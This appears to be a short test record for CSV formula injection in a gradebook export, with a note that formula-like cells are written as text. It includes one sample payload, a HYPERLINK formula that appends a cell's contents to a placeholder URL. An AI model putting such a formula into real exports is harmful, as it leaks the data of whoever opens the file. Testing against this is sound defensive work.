# row: spreadsheet formulas in CSV
# tries: to be computed by the spreadsheet that opens the gradebook
# held by: a cell that begins like a formula is written as text
# base: wrong
# entry: "=HYPERLINK(\"http:x?\"&A1)"
# loses: everything


